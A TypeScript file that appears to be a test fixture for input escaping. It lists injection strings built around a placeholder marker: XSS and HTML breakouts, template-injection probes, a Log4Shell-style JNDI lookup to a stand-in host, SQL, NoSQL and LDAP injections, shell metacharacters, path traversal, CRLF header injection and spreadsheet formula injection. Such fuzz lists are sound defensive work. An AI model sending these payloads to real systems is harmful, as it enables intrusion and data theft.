/**
 * What somebody types who wants more of it than text: `M` stands for the marker. Where one of them
 * were taken for what it looks like, the marker would stand where no text stands.
 */
export const markup = [
  ...[
    '<M>',
    '</M>',
    '<M/>',
    '<M',
    'M>',
    '<<M>>',
    '< M >',
    '<M a="1">',
    '<b>M</b>',
    '<i M>',
    'M<br>',
  ],
  ...['</textarea><M>', '</title><M>', '</div></form><M>', '<!--M-->', '--><M>', '<![CDATA[M]]>'],
  ...['<script>M()</script>', '</script><script>M()</script>', '<style>@import "M"</style>'],
  ...['<svg/onload=M()>', '<img src=x onerror=M()>', '<iframe srcdoc="&lt;M&gt;">', '<math><M>'],
  ...['"><M>', "'><M>", '" M="1', "' M='1", '" onfocus="M()" autofocus x="', "' onfocus=M() '"],
  ...['`M`', '"M"', "'M'", '\\"M\\"', '" >M', '"/><M/><input value="', ' M=1 ', '"\n><M>'],
  ...['&lt;M&gt;', '&#60;M&#62;', '&#x3C;M', '&amp;lt;M', '&M;', '&#8238;M', '&#0;M', '&quot;M'],
  ...['%3CM%3E', '%253CM', '\\u003cM\\u003e', '\\x3cM', '+ADw-M+AD4-', '＜M＞', '﹤M﹥', '‹M›'],
] as const;

/** What other readers than a browser might take for a command of theirs. */
export const commands = [
  ...[
    '{{ 1333*7 }}M',
    '{{{ 1333*7 }}}M',
    '{% raw %}M',
    '{% include "M" %}',
    '{# M #}',
    '${1333*7}M',
  ],
  ...['#{1333*7}M', '<%= 1333*7 %>M', '[[1333*7]]M', '{{ w.check.title }}M', '{{ M | safe }}'],
  ...['{{constructor.constructor("M")()}}', '${jndi:ldap://M.example.com/a}', '@{1333*7}M'],
  ...["'; DROP TABLE M;--", '" OR 1=1 --M', "1' UNION SELECT M", '{"$ne":"M"}', '*)(uid=M'],
  ...['attribute_not_exists(M)', ':M', '#M', 'SET M = :v', '[{"S":"M"}]', 'null', 'undefined'],
  ...['$(M)', ';M;', '|M', '&& M', '> M', '../../../../etc/M', 'C:\\M', 'file:///M', '\\\\M\\c$'],
  ...['javascript:M()', 'data:text/html,<M>', '//M.example.com', 'https://M.example.com/?a=b&c=d'],
  ...['=cmd|"/C M"!A0', '+M', '-M', '@M', '=1+1M', '$& M', '$1 $2 M', "$` M $'", '\\1M', '$$M'],
  ...[
    'M\r\nSet-Cookie: M=1',
    'M\r\n\r\n<M>',
    'M\nLocation: //M',
    'M\rX: M',
    '%0d%0aM: 1',
    'M\\r\\n',
  ],
  ...[
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'prototype M',
    '(?:M',
    '[M',
    '.*M+?',
  ],
] as const;
